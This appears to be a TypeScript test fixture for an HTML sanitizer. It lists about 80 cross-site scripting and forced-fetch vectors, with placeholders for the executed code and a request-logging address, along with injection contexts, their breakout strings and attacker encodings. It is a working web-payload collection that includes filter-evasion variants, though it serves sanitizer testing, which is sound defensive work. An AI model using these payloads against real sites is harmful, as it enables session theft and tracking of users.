/**
 * What a hostile sender may write, compiled by us from the HTML standard's features that run code or fetch. `RUN` stands for a call
 * that reports "I ran", `URL` for an address that records requests. Each fires by itself on a page without protection.
 */
const smallGif = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";

const scripts = [
  "<script>RUN</script>",
  "<ScRiPt >RUN</sCrIpT >",
  "<script/x>RUN</script>",
  "<script\n>RUN</script\n>",
  "<script type=module>RUN</script>",
  "<script src=URL></script>",
  "<script src=x onerror=RUN></script>",
  "<svg><script>RUN</script></svg>",
  "<svg><script href=URL></script></svg>",
  "<svg><script>&#82;</script><script>RUN</script></svg>",
];

const handlers = [
  "<img src=x onerror=RUN>",
  "<img src=x onerror='RUN'>",
  '<img src=x onerror="&#x0A;RUN">',
  '<IMG/SRC="x"/ONERROR=RUN>',
  "<img src=x\tonerror\t=\nRUN>",
  '<img """><img src=x onerror=RUN>',
  `<img src=${smallGif} onload=RUN>`,
  "<input type=image src=x onerror=RUN>",
  "<svg onload=RUN></svg>",
  "<svg><image href=x onerror=RUN></image></svg>",
  "<svg><animate attributeName=x dur=1s onbegin=RUN></animate></svg>",
  "<svg><set attributeName=x onbegin=RUN></set></svg>",
  "<video src=x onerror=RUN></video>",
  "<video onloadstart=RUN src=x></video>",
  "<video><source src=x onerror=RUN></video>",
  "<audio src=x onerror=RUN></audio>",
  "<object data=x onerror=RUN></object>",
  "<details open ontoggle=RUN><summary>x</summary></details>",
  "<link rel=stylesheet href=x onerror=RUN>",
  "<link rel=stylesheet href=data:text/css, onload=RUN>",
  "<style onload=RUN>b{}</style>",
  "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=RUN>x</b>",
  "<body onload=RUN>",
  "<body onpageshow=RUN>",
  "<iframe onload=RUN></iframe>",
  "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
  "<math><mtext><img src=x onerror=RUN></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  "<table><td><form><img src=x onerror=RUN></form></td></table>",
];

const documents = [
  '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
  "<iframe srcdoc='<img src=x onerror=RUN>'></iframe>",
  "<iframe src=javascript:RUN></iframe>",
  '<iframe src="java&Tab;script:RUN"></iframe>',
  "<iframe src=' \x01javascript:RUN'></iframe>",
  "<iframe src='data:text/html,<img src=URL>'></iframe>",
  "<iframe src=URL></iframe>",
  "<object data=URL></object>",
  "<embed src=URL>",
  '<meta http-equiv=refresh content="0;url=URL">',
];

const fetches = [
  "<img src=URL>",
  "<img src=//HOST>",
  "<img srcset='URL 1x'>",
  "<picture><source srcset=URL><img></picture>",
  "<input type=image src=URL>",
  "<video src=URL></video>",
  "<video poster=URL></video>",
  "<audio src=URL autoplay></audio>",
  "<video><track default src=URL></video><audio src=URL></audio>",
  "<svg><image href=URL></image></svg>",
  "<svg><image xlink:href=URL></image></svg>",
  "<link rel=stylesheet href=URL>",
  "<link rel=preload as=image href=URL>",
  "<link rel=prefetch href=URL>",
  "<link rel=modulepreload href=URL>",
  "<style>@import 'URL';</style>",
  "<style>@import url(URL);</style>",
  "<style>p{background:url(URL)}</style><p>x</p>",
  "<style>p::before{content:url(URL)}</style><p>x</p>",
  "<style>@font-face{font-family:f;src:url(URL)}p{font-family:f}</style><p>x</p>",
  "<p style=background-image:url(URL)>x</p>",
  "<p style='background-image:\\75 rl(URL)'>x</p>",
  "<p style='background-image:image-set(\"URL\" 1x)'>x</p>",
  "<p style='list-style:url(URL);display:list-item'>x</p>",
  "<p style='border:9px solid;border-image:url(URL) 9'>x</p>",
  "<p style=\"mask-image:url('URL')\">x</p>",
  "<table background=URL><td>x</td></table>",
  "<table><td background=URL>x</td></table>",
  "<body background=URL>",
];

export const vectors: readonly string[] = [...scripts, ...handlers, ...documents, ...fetches];

/** A template that inserts external text, unprotected, at `HERE`, and the text that breaks out of it. */
export type Context = { template: string; breakout: string };

export const contexts: readonly Context[] = [
  { template: "<p>HERE</p>", breakout: "" },
  { template: '<a title="HERE">x</a>', breakout: '">' },
  { template: "<a title='HERE'>x</a>", breakout: "'>" },
  { template: "<a title=HERE>x</a>", breakout: "x>" },
  { template: "<title>HERE</title>", breakout: "</title>" },
  { template: "<textarea>HERE</textarea>", breakout: "</textarea>" },
  { template: "<style>b{content:'HERE'}</style>", breakout: "'</style>" },
  { template: "<script>var x='HERE'</script>", breakout: "'</script>" },
  { template: "<!-- HERE -->", breakout: "-->" },
  { template: "<noscript>HERE</noscript>", breakout: "</noscript>" },
];

export type Encoding = "none" | "entities" | "hex_entities" | "percent" | "escapes";

/** Encodings that an attacker may use, hoping that one layer too many is decoded. */
export const encoders: Record<Encoding, (text: string) => string> = {
  none: (text) => text,
  entities: (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  hex_entities: (text) => text.replaceAll(/[<>&"']/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  percent: (text) => encodeURIComponent(text),
  escapes: (text) =>
    text.replaceAll(/[<>"'&]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, "0")}`),
};
